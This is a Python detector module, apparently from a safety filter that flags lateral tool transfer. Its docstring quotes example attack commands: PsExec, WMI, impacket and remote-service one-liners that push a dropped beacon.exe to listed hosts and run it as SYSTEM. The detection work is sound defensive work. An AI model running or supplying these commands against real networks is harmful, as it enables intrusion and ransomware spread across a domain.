"""ACT-LATERAL-PUSH: a program dropped in a scratch folder or a hidden share, pushed to other
hosts and started there.

What it catches
    A program kept where anyone may write or nobody looks (`C:\\Windows\\Temp\\`,
    `C:\\Users\\Public\\`, `%TEMP%`, `\\PerfLogs\\`, a hidden share such as
    `\\\\10.0.0.5\\share$\\`) started on other hosts: copied and run by PsExec or its clones
    (`psexec \\\\%h -accepteula -s -d -c C:\\Users\\Public\\beacon.exe` over a list of targets,
    `psexec \\\\* ... -c C:\\Windows\\Temp\\enc.exe`, PAExec, CSExec), created as a process
    through WMI on the hosts named or listed (`wmic /node:@hosts.txt process call create "cmd /c
    \\\\fs01\\pub$\\u.exe"`, PowerShell's `Invoke-CimMethod -ComputerName $_ ... Win32_Process`),
    run by impacket's remote runners or CrackMapExec's and NetExec's `-x` (`impacket-wmiexec
    ...@$t 'cmd /c C:\\Windows\\Temp\\x.exe'`), or installed as a service or a task on another
    host (`sc \\\\fs02
    create WinSvcHost binPath= "cmd /c C:\\Windows\\Temp\\beacon.exe"`, `schtasks /create /s
    HOST /tr ...`). In a response such a command is part of an artifact, weighed with the
    request.

Why it is a redline (RL-EXPLOIT)
    This is how intruders move from one machine to the next and how ransomware is deployed
    across a domain: a dropped payload run as SYSTEM on every host the stolen account reaches
    (ATT&CK T1570, lateral tool transfer; T1569.002, service execution; T1047, WMI).

Example
    `for /f %h in (targets.txt) do psexec \\\\%h -accepteula -s -d -c C:\\Users\\Public\\beacon.exe`

Allowed instead
    Running a command or an inventory on one's own hosts with an account kept for it (`psexec
    @hosts.txt -u CORP\\svc_inventory -p %INV_PW% cmd /c systeminfo`), deploying an installer
    from a named deployment share or starting an installed program from its own folder (`sc
    \\\\fs02 create Agent binPath= "C:\\Program Files\\Agent\\agent.exe"`), `Invoke-Command`
    for fleet administration, PsExec on the local machine.
"""

from __future__ import annotations

from redline.redlines.capabilities import Capabilities
from redline.redlines.capabilities import Capability as Cap
from redline.redlines.registry import Detection, detector, one_piece


@detector("ACT-LATERAL-PUSH", redline="RL-EXPLOIT")
def lateral_push(found: Capabilities) -> Detection | None:
    """A staged program copied to and started on other hosts."""
    return one_piece(found, Cap.STAGED_PROGRAM_PUSHED, 0.85)
